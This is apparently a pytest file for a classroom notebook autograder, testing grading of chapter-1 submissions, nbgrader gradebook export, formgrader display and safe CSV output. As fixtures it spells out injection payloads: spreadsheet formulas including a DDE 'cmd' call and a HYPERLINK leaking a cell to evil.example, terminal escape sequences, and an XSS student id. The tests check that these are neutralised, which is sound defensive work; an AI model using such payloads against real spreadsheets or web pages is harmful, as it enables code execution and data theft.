"""Grading chapter 1 end to end: full marks, zero, exactly one lost exercise, an invalid file.

The same batch holds hostile entries that need no kernel (issue #19): names the file system refuses (3), names
that are spreadsheet formulas or terminal escape sequences (6), a chapter-2 notebook named as chapter 1 with its
metadata stripped (8).
"""

import contextlib
import csv
import io
import json
import re
import shutil
import time
import zipfile

import nbformat
import pytest

from autograder import course, safe_text
from autograder.grading import class_run
from autograder.outputs import tables
from tests.notebook_answers import answered, delegating, second_answers
from tests.test_grading_chapters import check_second_answers_score_full

pytestmark = pytest.mark.grading

CHAPTER = "01_rooflines"
WRONG = "ch01-ex1-2-mixed"


def _wrong(gid, src):
    if gid != course.answer_id(WRONG):
        return src
    slipped = src.replace("/ 2", "/ 3")  # an off-by-precision slip
    assert slipped != src
    return slipped


def _answered(wrong=False):
    return answered(CHAPTER, _wrong if wrong else None)


def _answered_only(eid):
    """The released notebook with only ``eid`` answered (from solutions/)."""
    nb = nbformat.read(course.CHAPTERS / f"{CHAPTER}.ipynb", as_version=4)
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == course.answer_id(eid))
    cell.source = next(c for c in answered(CHAPTER).cells
                       if c.metadata.get("nbgrader", {}).get("grade_id") == course.answer_id(eid)).source
    return nb


# Issue #19's hostile entries, none of which needs a kernel. 3: names the file system refuses.
TOO_LONG = "x" * 300 + ".ipynb"  # one name over 255 bytes
TOO_DEEP = "/".join(["d" * 250] * 20) + "/deep.ipynb"  # a path over 4096 bytes
# 6: names that are formulas (each an invalid notebook, so graded without a kernel) and escape sequences
FORMULAS = {"=1+2": "=1+2.ipynb", "+cmd|' -C calc'!A0": "+cmd|' -C calc'!A0.ipynb",
            "2+3": "-2+3.ipynb",  # the id loses the name's leading '-', the file column keeps it
            "@SUM(A1)": "@SUM(A1).ipynb"}
ESCAPES = "\x1b]0;owned\x07\x1b[2J\u202eevil\r\n.txt"  # sets the title, clears the screen, reverses the text
# an id that is script in formgrader's pages, which put ids into HTML and JavaScript unescaped
MARKUP_ID = 'x";alert(1);"<svg onload=alert(2)>'
# 8: chapter 2's notebook, named as chapter 1, its notebook and cell metadata stripped (as Colab may)
NAMED_AS_CH1 = "eve_01_rooflines.ipynb"


def _stripped(chapter):
    nb = json.loads((course.CHAPTERS / f"{chapter}.ipynb").read_text(encoding="utf-8"))
    for c in nb["cells"]:
        c.pop("id", None)
        c["metadata"] = {}
    nb["metadata"] = {}
    return json.dumps(nb)


def _hostile_entries():
    entries = [(TOO_LONG, nbformat.writes(_answered())), (TOO_DEEP, nbformat.writes(_answered())),
               (ESCAPES, "not a notebook"), (NAMED_AS_CH1, _stripped("02_tpus"))]
    return entries + [(name, "{ not json") for name in [*FORMULAS.values(), MARKUP_ID + ".ipynb"]]


# names as Canvas ("Last, First") and as people ("First Last") write them; nbgrader's formgrader shows them
ROSTER = """student,name,email
alice,"Liddell, Alice",alice@example.org
bob,Bob Marley,bob@example.org
carol,"Ann Duffy, Carol",
dave,Dave,
delegator,Del Egator,
frank,Frank,
delegator_open,,
second,Sec Ond,
"""
# the hostile entries' students are on the roster too, so that they are graded (as invalid notebooks) by their ids
ROSTER += "".join(f'"{sid.replace(chr(34), chr(34) * 2)}",,\n' for sid in [*FORMULAS, MARKUP_ID, "eve"])


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("grading")
    subs = tmp / "subs"
    (subs / "bob").mkdir(parents=True)
    nbformat.write(_answered(), subs / "alice.ipynb")
    shutil.copy(course.CHAPTERS / f"{CHAPTER}.ipynb", subs / "bob" / f"{CHAPTER}.ipynb")  # untouched
    nbformat.write(_answered(wrong=True), subs / "carol.ipynb")
    nbformat.write(_answered_only(WRONG), subs / "frank.ipynb")  # one exercise answered, the rest as released
    (subs / "dave.ipynb").write_text("{ this is not json")
    nbformat.write(delegating(CHAPTER), subs / "delegator.ipynb")
    nbformat.write(delegating(CHAPTER), subs / "delegator_open.ipynb")  # graded with all of scalelib reachable
    nbformat.write(second_answers(CHAPTER), subs / "second.ipynb")  # written differently (tests/second_answers/)
    archive = tmp / "subs.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        for p in subs.rglob("*.ipynb"):
            zf.write(p, p.relative_to(subs))
        for name, data in _hostile_entries():
            zf.writestr(name, data)
    roster = tmp / "roster.csv"
    roster.write_text(ROSTER, encoding="utf-8")
    out = tmp / "out"
    console = io.StringIO()
    with contextlib.redirect_stdout(console):
        results = {r.student: r for r in class_run.grade(archive, CHAPTER, out, roster=roster,
                                                     unrestricted=frozenset({"delegator_open"}))}
    (tmp / "console.txt").write_text(console.getvalue(), encoding="utf-8")
    rows = {safe_text.uncell(row["student"]): row for row in csv.DictReader((out / "grades.csv").open())}
    return results, rows, out


def test_full_marks_for_a_complete_answer(graded):
    results, rows, _ = graded
    assert results["alice"].status == "graded"
    assert results["alice"].score == results["alice"].max_score > 0


def test_the_instructors_notebook_runs_cleanly_in_the_grader(graded):
    _, _, out = graded
    assert not (out / "logs" / tables.INSTRUCTOR_LOG).exists(), (out / "logs" / tables.INSTRUCTOR_LOG).read_text()


def test_the_console_holds_progress_and_the_run_not_what_the_tests_printed(graded):
    """Issue 48: each test cell's ``ex.visible_checks`` prints that its checks passed; that line is the student's
    (their feedback keeps it), not the instructor's: the console ends with the problems and the files written."""
    results, _, out = graded
    console = (out.parent / "console.txt").read_text(encoding="utf-8")
    assert "visible checks passed" not in console
    assert any("visible checks passed" in text for text in results["alice"].outputs.values()), results["alice"]
    lines = console.splitlines()
    last = max(i for i, line in enumerate(lines) if line.startswith("["))  # the last student graded
    problems = next(i for i, line in enumerate(lines) if re.fullmatch(r"problems \(\d+\):", line))
    ignored = next(i for i, line in enumerate(lines) if line.startswith("not graded: "))
    assert last < problems < ignored < lines.index(f"files written in {out}:"), console
    assert "entries of the export not unpacked or not read" in "\n".join(lines[problems:ignored]), console


def test_untouched_notebook_scores_zero(graded):
    from autograder.judging.student_steps import NOT_RUN_STUB

    results, rows, out = graded
    assert results["bob"].status == "graded" and results["bob"].score == 0
    assert all(v == 0 for v in results["bob"].exercises.values())
    assert results["bob"].messages == dict.fromkeys(results["bob"].exercises, NOT_RUN_STUB)
    assert not (out / "logs" / "bob.kernel.log").exists()  # no kernel was started for him


def test_stubs_beside_an_answer_are_run_and_judged_in_its_kernel(graded):
    """The grader skips a group's kernel only when every answer of the group is still its released stub (bob, in
    tests/test_grading_chapters.py): beside one real answer, the stubs run in the kernel and the judge finds that
    they still raise."""
    from autograder.judging.student_steps import NOT_RUN_STUB

    results, _, out = graded
    frank, alice = results["frank"], results["alice"]
    assert frank.status == "graded" and frank.score == frank.exercises[WRONG] == alice.exercises[WRONG] > 0
    stubs = {e: m for e, m in frank.messages.items() if e != WRONG}
    assert set(stubs) == set(frank.exercises) - {WRONG} and NOT_RUN_STUB not in stubs.values()
    assert all(m.startswith("not answered yet: your function still raises its stub") for m in stubs.values()), stubs
    assert (out / "logs" / "frank.kernel.log").exists()


def test_one_wrong_answer_loses_exactly_its_points(graded):
    results, rows, out = graded
    carol, alice = results["carol"], results["alice"]
    lost = {k for k in alice.exercises if carol.exercises[k] != alice.exercises[k]}
    assert lost == {WRONG}
    assert carol.score == alice.score - alice.exercises[WRONG]
    assert float(rows["carol"][WRONG]) == 0
    feedback = (out / "feedback" / "carol.html").read_text()
    assert WRONG in feedback and "ExerciseError" in feedback


def test_invalid_notebook_is_reported_not_fatal(graded):
    results, rows, _ = graded
    assert results["dave"].status == "invalid notebook"
    assert rows["dave"]["score"] == "0"


def test_results_reach_the_nbgrader_gradebook_and_export(graded):
    """formgrader and `nbgrader export` read gradebook.db: it must hold the same scores as grades.csv."""
    import subprocess
    import sys
    from pathlib import Path

    from nbgrader.api import Gradebook

    from autograder.outputs import gradebook

    results, rows, out = graded
    course_dir = out / "nbgrader"
    assert results[MARKUP_ID].status == "invalid notebook"
    with Gradebook(f"sqlite:///{course_dir / 'gradebook.db'}") as gb:
        # no id reaches formgrader's pages with a character they would not escape: such ids are hashed
        assert not [s.id for s in gb.students if re.search(r"[\"'`<>&\\]", s.id)]
        assert gradebook.nbgrader_id(MARKUP_ID).startswith("xalert1svgonloadalert2~")
        assert gb.find_student(gradebook.nbgrader_id(MARKUP_ID)).last_name == MARKUP_ID  # shown as the name
        for student, r in results.items():
            sub = gb.find_submission(CHAPTER, gradebook.nbgrader_id(student))
            assert sub.score == pytest.approx(r.score)
            assert sub.max_score == pytest.approx(r.max_score)
            assert not sub.needs_manual_grade
        carol = gb.find_comment(f"{WRONG}-answer", CHAPTER, CHAPTER, "carol")
        assert "ExerciseError" in carol.auto_comment
    nbgrader = Path(sys.executable).parent / "nbgrader"
    subprocess.run([str(nbgrader), "export", "--to", str(out / "export.csv")], cwd=course_dir, check=True,
                   capture_output=True)
    exported = {safe_text.uncell(row["student_id"]): row  # quoted and neutralised: the folder's exporter
                for row in csv.DictReader((out / "export.csv").open(newline=""))}
    assert exported["=1+2"] and "'=1+2" in (out / "export.csv").read_text()
    assert set(exported) == {gradebook.nbgrader_id(s) for s in results}
    for student, r in results.items():
        assert float(exported[gradebook.nbgrader_id(student)]["score"]) == pytest.approx(r.score)
        assert float(rows[student]["score"]) == pytest.approx(r.score)


def _files(folder):
    return {p.relative_to(folder): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def test_nbgraders_own_autograde_refuses_before_it_runs_or_changes_anything(graded, tmp_path):
    """`nbgrader autograde` (what formgrader's Autograde button calls) in the course folder would run a student's
    notebook as the instructor, outside the sandbox, and replace the graded copies: the folder's config stops it
    first, with a message that names the command to use. A submission nbgrader has never seen, whose first cell
    writes a file, shows that no student code ran; every file in the folder keeps its bytes."""
    import subprocess
    import sys
    from pathlib import Path

    _, _, out = graded
    course_dir = out / "nbgrader"
    ran = tmp_path / "student code ran"
    nb = _answered()
    nb.cells.insert(0, nbformat.v4.new_code_cell(f"open({str(ran)!r}, 'w').close()"))
    mallory = course_dir / "submitted" / "mallory" / CHAPTER
    mallory.mkdir(parents=True)
    try:
        nbformat.write(nb, mallory / f"{CHAPTER}.ipynb")
        (mallory / "timestamp.txt").write_text("2026-11-27 10:00:00.000000 UTC")
        before = _files(course_dir)
        nbgrader = Path(sys.executable).parent / "nbgrader"
        for student in ("mallory", "alice"):
            proc = subprocess.run([str(nbgrader), "autograde", CHAPTER, "--student", student, "--force"],
                                  cwd=course_dir, capture_output=True, text=True, timeout=120)
            said = proc.stdout + proc.stderr
            assert proc.returncode != 0, said
            assert "does not let nbgrader run student code" in said and "python -m autograder grade" in said, said
        assert not ran.exists()
        assert _files(course_dir) == before
    finally:
        shutil.rmtree(mallory.parent)


def test_regrading_keeps_a_manual_score_and_flags_it(graded):
    from nbgrader.api import Gradebook

    from autograder.outputs import gradebook

    results, _, out = graded
    course_dir = out / "nbgrader"
    url = f"sqlite:///{course_dir / 'gradebook.db'}"
    with Gradebook(url) as gb:
        g = gb.find_grade(WRONG, CHAPTER, CHAPTER, "carol")
        g.manual_score = 0.5
        gb.db.commit()
    gradebook.write(course_dir, CHAPTER, list(results.values()), course.SOLUTIONS)
    with Gradebook(url) as gb:
        g = gb.find_grade(WRONG, CHAPTER, CHAPTER, "carol")
        assert g.manual_score == 0.5 and g.auto_score == 0 and g.needs_manual_grade
        assert gb.find_grade(WRONG, CHAPTER, CHAPTER, "alice").auto_score == results["alice"].exercises[WRONG]


def test_answers_that_delegate_to_the_library_earn_nothing(graded):
    """Chapter 1's part of the delegation proof (the other chapters' is in test_grading_chapters.py)."""
    results, rows, _ = graded
    assert not {e: v for e, v in results["delegator"].exercises.items() if v}
    assert "not available while this exercise is graded" in results["delegator"].messages["ch01-roofline-bounds"]
    assert results["delegator_open"].score == results["delegator_open"].max_score



def test_a_second_honest_answer_scores_full_marks(graded):
    """Chapter 1's part of the parity proof (the other chapters' is in test_grading_chapters.py): among others,
    critical_intensity_of calls a method of the Chip it is handed."""
    results, _, _ = graded
    check_second_answers_score_full(CHAPTER, results)


def test_feedback_a_student_understands(graded):
    """Issue #10: each exercise by title and id; "all checks passed"; a failure's own message; never a line of a
    hidden test; pages a web server can read."""
    import html

    from autograder.instructor import chapter_model

    results, rows, out = graded
    ch = chapter_model.load_chapter(course.SOLUTIONS / f"{CHAPTER}.ipynb")
    alice, carol = ((out / "feedback" / f"{s}.html").read_text() for s in ("alice", "carol"))
    for eid, ex in ch.exercises.items():
        assert ex.title.startswith("Exercise 1.") and f"{html.escape(ex.title)}<br>" in alice and eid in alice
    assert alice.count("all checks passed") == len(ch.exercises)
    assert carol.count("all checks passed") == len(ch.exercises) - 1 and "critical batch = " in carol
    hidden = {line.strip() for ex in ch.exercises.values()
              for line in ex.test_source.split("### BEGIN HIDDEN TESTS", 1)[1].splitlines() if len(line.strip()) > 12}
    for page in (out / "feedback").glob("*.html"):
        text = page.read_text()
        assert not [line for line in hidden if line in text], page.name
        assert page.stat().st_mode & 0o777 == 0o644, page.name


def _csv_cells(path):
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def test_an_entry_the_file_system_refuses_is_its_own_row_not_the_end_of_the_batch(graded):
    """Issue #19, 3: a name too long, a path too deep: each is a skipped row of submissions.csv saying why, and
    everyone else is graded (grades.csv written, the honest neighbour's full marks)."""
    results, rows, out = graded
    assert results["alice"].status == "graded" and results["alice"].score == results["alice"].max_score > 0
    assert rows["alice"]["score"] == f"{results['alice'].max_score:g}"
    manifest = {safe_text.uncell(r[0]): r for r in _csv_cells(out / "submissions.csv")[1:]}
    for name in (TOO_LONG, TOO_DEEP):
        _, student, use, why = manifest[name]
        assert (student, use) == ("", "skipped") and "File name too long" in why, why
    console = (out.parent / "console.txt").read_text(encoding="utf-8")
    assert f"  {TOO_LONG}: bad zip entry, not unpacked: OSError: File name too long" in console


def test_csv_cells_and_console_lines_are_safe_to_open(graded, tmp_path):
    """Issue #19, 6: no cell of grades.csv, grades_long.csv, submissions.csv or canvas.csv starts a formula; the
    value is one apostrophe away (safe_text.uncell); scores are bare numbers; no control character or escape
    sequence from an entry's name reaches a CSV or the console, where it is shown escaped."""
    results, rows, out = graded
    hostile_roster = [{"student": "alice", "name": '=HYPERLINK("http://evil.example/?"&A1;"open")', "id": "101",
                       "sis_id": "-3+4", "login": "@SUM(A1)", "section": "+A\x1b[2J"},
                      {"student": "=1+2", "name": "\tTab Start", "id": "102", "sis_id": "\r=1", "login": "",
                       "section": ""}]
    tables.write_canvas_csv(out / "canvas.csv", CHAPTER, list(results.values()), hostile_roster,
                            results["alice"].max_score)
    triggers = ("=", "+", "-", "@", "\t", "\r")
    for name in ("grades.csv", "grades_long.csv", "submissions.csv", "canvas.csv"):
        text = (out / name).read_text(encoding="utf-8")
        assert not [c for c in text if c in "\x1b\x07\u202e"], name
        for row in _csv_cells(out / name):
            assert not [c for c in row if c.startswith(triggers)], (name, row)
    grades = {safe_text.uncell(r[0]): r for r in _csv_cells(out / "grades.csv")[1:]}
    for student, file in FORMULAS.items():
        assert results[student].status == "invalid notebook" and results[student].score == 0
        assert grades[student][6] == "'" + file  # the file column
        assert grades[student][0] == (student if student == "2+3" else "'" + student)  # the student column
        assert grades[student][2] == "0"
    long = [r for r in _csv_cells(out / "grades_long.csv")[1:] if safe_text.uncell(r[0]) == "=1+2"]
    assert long and all(r[0] == "'=1+2" for r in long)
    # numbers are bare (a spreadsheet imports them as numbers), text is quoted
    max_score = f"{results['alice'].max_score:g}"
    assert f'"alice","{CHAPTER}",{max_score},{max_score},"graded"' in (out / "grades.csv").read_text()
    canvas = _csv_cells(out / "canvas.csv")
    assert canvas[2] == ["'" + hostile_roster[0]["name"], "101", "'-3+4", "'@SUM(A1)", "'+A\\x1b[2J", max_score]
    assert canvas[3][0] == "\\x09Tab Start" and canvas[3][2] == "\\x0d=1" and canvas[3][5] == "0"
    assert [safe_text.uncell(c) for c in canvas[2][:5]] == [hostile_roster[0][k] for k in
                                                              ("name", "id", "sis_id", "login", "section")]
    assert safe_text.csv_text([["-1", -1, 2.5, "'quoted"]]) == "\"'-1\",-1,2.5,\"''quoted\"\r\n"
    # an entry named with escape sequences: escaped in submissions.csv and on the console, recoverable
    shown = safe_text.printable(ESCAPES)
    assert shown == "\\x1b]0;owned\\x07\\x1b[2J\\u202eevil\\x0d\\x0a.txt" and safe_text.unescape(shown) == ESCAPES
    manifest = {r[0]: r for r in _csv_cells(out / "submissions.csv")[1:]}
    assert manifest[shown][2] == "unmatched"
    console = (out.parent / "console.txt").read_text(encoding="utf-8")
    assert f"  {shown}: not a notebook (.ipynb), ignored" in console
    assert not [c for c in console if c in "\x1b\x07\u202e\r"]


def test_a_notebook_of_another_chapter_is_wrong_chapter_by_its_content(graded):
    """Issue #19, 8: chapter 2's notebook named as chapter 1, metadata stripped: "wrong chapter" (decided by its
    cells against the released chapters), not "partially graded, no answer found"."""
    results, rows, out = graded
    eve = results["eve"]
    assert (eve.status, eve.score, eve.detail) == ("wrong chapter", 0, "this is 02_tpus (from its content)")
    manifest = {r["file"]: r for r in csv.DictReader((out / "submissions.csv").open(encoding="utf-8"))}
    assert manifest[NAMED_AS_CH1]["why"] == "chapter from content"
    assert manifest["alice.ipynb"]["why"] == "chapter from content"
    assert results["alice"].score == results["alice"].max_score


def test_formgrader_shows_each_graded_notebook_in_a_real_browser(graded, tmp_path):
    """Issue 20, item 6: nbgrader's formgrader, served by `jupyter server` from the course folder `grade` wrote and
    driven in Chromium, lists every submission with the roster's names, opens a student's graded notebook with
    its scores, comments and code, and takes a manual score into the gradebook. Screenshots: /tmp/formgrader/."""
    import json
    from pathlib import Path

    from nbgrader.api import Gradebook

    from autograder.instructor import chapter_model
    from autograder.outputs import gradebook
    from tests import formgrader_browser

    sync_api = formgrader_browser.browser_or_skip()
    results, _, out = graded
    course_dir = out / "nbgrader"
    ch = chapter_model.load_chapter(course.SOLUTIONS / f"{CHAPTER}.ipynb")
    submitted = sorted(s for s, r in results.items() if r.status != "missing")
    shown = "".join(c.source for c in nbformat.read(course.CHAPTERS / f"{CHAPTER}.ipynb", as_version=4).cells)
    shown += "".join(e.answer_source for e in ch.exercises.values())
    hidden = {line.strip() for ex in ch.exercises.values()  # lines only the hidden tests have
              for line in ex.test_source.split("### BEGIN HIDDEN TESTS", 1)[1].splitlines()
              if len(line.strip()) > 12 and line.strip() not in shown}
    assert hidden
    for s in submitted:  # nbgrader's layout, each with the submission's time
        for kind in ("submitted", "autograded"):
            folder = course_dir / kind / gradebook.nbgrader_id(s) / CHAPTER
            assert (folder / f"{CHAPTER}.ipynb").is_file() and (folder / "timestamp.txt").is_file(), (kind, s)
        graded_nb = json.loads((course_dir / "autograded" / gradebook.nbgrader_id(s) / CHAPTER /
                                f"{CHAPTER}.ipynb").read_text())
        text = json.dumps(graded_nb) + "".join(chapter_model.source_of(c) + json.dumps(c.get("outputs")) for c in graded_nb["cells"])
        assert not [line for line in hidden if line in text], s
    released = json.loads((course_dir / "release" / CHAPTER / f"{CHAPTER}.ipynb").read_text())
    copy = json.loads((course_dir / "autograded" / "alice" / CHAPTER / f"{CHAPTER}.ipynb").read_text())
    ids = [(c["id"], c["metadata"].get("nbgrader")) for c in released["cells"]]
    assert [(c["id"], c["metadata"].get("nbgrader")) for c in copy["cells"][1:]] == ids  # as the gradebook knows them

    url = f"sqlite:///{course_dir / 'gradebook.db'}"
    with Gradebook(url) as gb:
        alice_nb = gb.find_submission_notebook(CHAPTER, CHAPTER, "alice").id
        carol_nb = gb.find_submission_notebook(CHAPTER, CHAPTER, "carol").id
    first = next(iter(ch.exercises))
    shots = Path("/tmp/formgrader")
    shots.mkdir(exist_ok=True)
    expect = sync_api.expect
    with formgrader_browser.jupyter_server(course_dir, tmp_path / "jupyter.log") as (base, token), \
            formgrader_browser.chromium_page(sync_api) as page:
        dialogs: list[str] = []  # an alert() would mean a student's id ran as script in the page
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.goto(f"{base}/formgrader?token={token}")  # "Manage Assignments"
        row = page.locator("tr", has_text=CHAPTER)
        expect(row.locator(".num-submissions")).to_have_text(str(len(submitted)))
        assert page.locator("#warning-exchange").count() == 0 and page.locator("#warning-course-id").count() == 0
        page.screenshot(path=str(shots / "1-assignments.png"), full_page=True)

        page.goto(f"{base}/formgrader/manage_submissions/{CHAPTER}")
        expect(page.locator("td.student-name", has_text="Liddell, Alice")).to_have_count(1)
        expect(page.locator("td.student-name")).to_have_count(len(submitted))
        names = page.locator("td.student-name").all_inner_texts()
        assert "Ann Duffy, Carol" in names and not [n for n in names if "None" in n], names
        page.screenshot(path=str(shots / "2-submissions.png"), full_page=True)

        page.goto(f"{base}/formgrader/submissions/{alice_nb}/")  # alice's graded notebook
        points = ch.exercises[first].points
        expect(page.locator(f'input.score[id="{first}"]')).to_have_attribute("placeholder", f"{points:g}")
        expect(page.locator(".output_area", has_text=f"{points:g} / {points:g} points: all checks passed")).not_to_have_count(0)
        page.screenshot(path=str(shots / "3-alice-graded.png"), full_page=True)

        page.goto(f"{base}/formgrader/submissions/{carol_nb}/")  # the exercise carol lost, its reason, her code
        score = page.locator(f'input.score[id="{WRONG}"]')
        expect(score).to_have_attribute("placeholder", "0")
        comment = page.locator(f'textarea[id="{WRONG}-answer-comment"]')
        expect(comment).to_have_attribute("placeholder", re.compile("critical batch = "))  # set by formgrader's script
        expect(page.locator(".nbgrader_cell", has_text="/ 3")).not_to_have_count(0)
        score.fill("1")
        score.press("Tab")  # formgrader saves a score when it changes
        deadline = time.monotonic() + 20
        while True:
            with Gradebook(url) as gb:
                manual = gb.find_grade(WRONG, CHAPTER, CHAPTER, "carol").manual_score
            if manual == 1 or time.monotonic() > deadline:
                break
            time.sleep(0.3)
        assert manual == 1
        page.screenshot(path=str(shots / "4-carol-manual-score.png"), full_page=True)

        # the student whose id is markup: listed by that id as a name, and their page runs none of it
        page.goto(f"{base}/formgrader/manage_students")
        expect(page.locator("td", has_text=MARKUP_ID)).not_to_have_count(0)
        page.goto(f"{base}/formgrader/manage_students/{gradebook.nbgrader_id(MARKUP_ID)}")
        expect(page.locator("td", has_text=CHAPTER)).not_to_have_count(0)
        page.screenshot(path=str(shots / "5-markup-id.png"), full_page=True)
        assert dialogs == []

        # the Autograde button would run alice's notebook as the instructor: it refuses, and nothing changes
        before = _files(course_dir)
        page.goto(f"{base}/formgrader/manage_submissions/{CHAPTER}")
        page.locator("tr", has_text="Liddell, Alice").locator("td.autograde a").click()
        refused = page.locator("#error-modal")
        expect(refused).to_be_visible()
        expect(refused).to_contain_text("does not let nbgrader run student code")
        page.wait_for_timeout(500)  # the modal's fade-in, for the screenshot
        page.screenshot(path=str(shots / "6-autograde-refused.png"), full_page=True)
        assert _files(course_dir) == before


def _set_in_formgrader(course_dir, student, eid, manual=None, extra=None):
    """What formgrader's Manual Grading page stores when the instructor types a score (or extra credit)."""
    from nbgrader.api import Gradebook

    from autograder.outputs import gradebook

    with Gradebook(gradebook.db_url(course_dir)) as gb:
        g = gb.find_grade(eid, CHAPTER, CHAPTER, gradebook.nbgrader_id(student))
        g.manual_score, g.extra_credit = manual, extra
        gb.db.commit()


def test_scores_typed_in_formgrader_reach_every_export_on_a_regrade_and_on_export(graded, tmp_path):
    """Issue 48: a manual score typed in formgrader survived a re-grade in the gradebook while grades.csv,
    grades_long.csv and canvas.csv kept the grader's score, silently. A re-grade (every student already graded: no
    kernel runs) and `python -m autograder export` (for an edit made after grading) write what formgrader shows,
    mark the cell as manual beside the grader's points, and name each such cell on the console; results/ keep the
    grader's own record."""
    from autograder.cli.main import main

    results, _, graded_out = graded
    out = tmp_path / "out"
    shutil.copytree(graded_out, out)  # the module's class stays as graded for the other tests
    course_dir = out / "nbgrader"
    mixed = results["carol"].exercises[WRONG]  # her slip lost it: 0 of 2
    first = next(iter(results["alice"].exercises))
    _set_in_formgrader(course_dir, "carol", WRONG, manual=1.5)
    _set_in_formgrader(course_dir, "alice", first, manual=0.0)  # below what the checks gave
    _set_in_formgrader(course_dir, "bob", first, extra=0.5)  # extra credit only

    console = io.StringIO()
    roster = graded_out.parent / "roster.csv"
    with contextlib.redirect_stdout(console):
        class_run.grade(graded_out.parent / "subs.zip", CHAPTER, out, roster=roster, lms="canvas")
    said = console.getvalue()
    assert "already graded" in said and "grading " not in said  # nothing ran again
    assert "kept 3 manual scores from formgrader" in said
    alice_auto = results["alice"].exercises[first]
    for line in (f"alice, {first}: {alice_auto:g} -> 0 (manual score 0)",
                 f"carol, {WRONG}: {mixed:g} -> 1.5 (manual score 1.5)", f"bob, {first}: 0 -> 0.5 (extra credit 0.5)"):
        assert f"\n  {line}\n" in said, said

    def files():
        grades = {safe_text.uncell(r["student"]): r for r in csv.DictReader((out / "grades.csv").open(newline=""))}
        long = {(safe_text.uncell(r["student"]), r["exercise"]): r
                for r in csv.DictReader((out / "grades_long.csv").open(newline=""))}
        canvas = {r[0]: r[-1] for r in csv.reader((out / "canvas.csv").open(newline=""))}
        return grades, long, canvas

    grades, long, canvas = files()
    names = {r["student"]: r["name"] or r["student"] for r in csv.DictReader(io.StringIO(ROSTER))}  # canvas.csv's
    expected = {"carol": results["carol"].score - mixed + 1.5, "alice": results["alice"].score - alice_auto,
                "bob": 0.5}
    for student, total in expected.items():
        assert float(grades[student]["score"]) == pytest.approx(total)
        assert float(canvas[names[student]]) == pytest.approx(total), (student, canvas)
    assert float(grades["carol"][WRONG]) == 1.5 and float(grades["alice"][first]) == 0
    assert (long[("carol", WRONG)]["points"], long[("carol", WRONG)]["scored_by"],
            long[("carol", WRONG)]["auto_points"]) == ("1.5", "manual", f"{mixed:g}")
    assert long[("dave", first)]["scored_by"] == "autograder" and float(grades["dave"]["score"]) == 0
    assert list(grades["carol"]) == ["student", "chapter", "score", "max_score", "status", "detail", "file",
                                     *results["carol"].exercises]  # grades.csv's columns as before
    assert json.loads((out / "results" / "carol.json").read_text())["exercises"][WRONG] == mixed

    # after grading, the instructor changes a score in formgrader and takes one back: export, no grading
    _set_in_formgrader(course_dir, "frank", WRONG, manual=0.25)
    _set_in_formgrader(course_dir, "alice", first, manual=None)
    console = io.StringIO()
    with contextlib.redirect_stdout(console):
        assert main(["export", "--out", str(out), "--roster", str(roster), "--lms", "canvas"]) == 0
    said = console.getvalue()
    assert f"\n  frank, {WRONG}: {results['frank'].exercises[WRONG]:g} -> 0.25 (manual score 0.25)\n" in said
    assert "alice" not in said and "kept 3 manual scores" in said
    grades, long, canvas = files()
    assert float(grades["frank"][WRONG]) == 0.25 and float(canvas[names["frank"]]) == pytest.approx(
        results["frank"].score - results["frank"].exercises[WRONG] + 0.25)
    assert float(grades["alice"]["score"]) == results["alice"].score
    assert long[("alice", first)]["scored_by"] == "autograder"
    with contextlib.redirect_stdout(io.StringIO()):
        assert main(["export", "--out", str(out), "--roster", str(roster), "--lms", "gradescope"]) == 0
    carol = json.loads((out / "gradescope" / "carol" / "results.json").read_text())
    test = next(t for t in carol["tests"] if t["name"].endswith(f"[{WRONG}]"))
    assert carol["score"] == float(grades["carol"]["score"]) and test["score"] == 1.5
    assert test["output"].startswith(f"score set by your instructor: 1.5 / 2; the checks gave {mixed:g}: ")
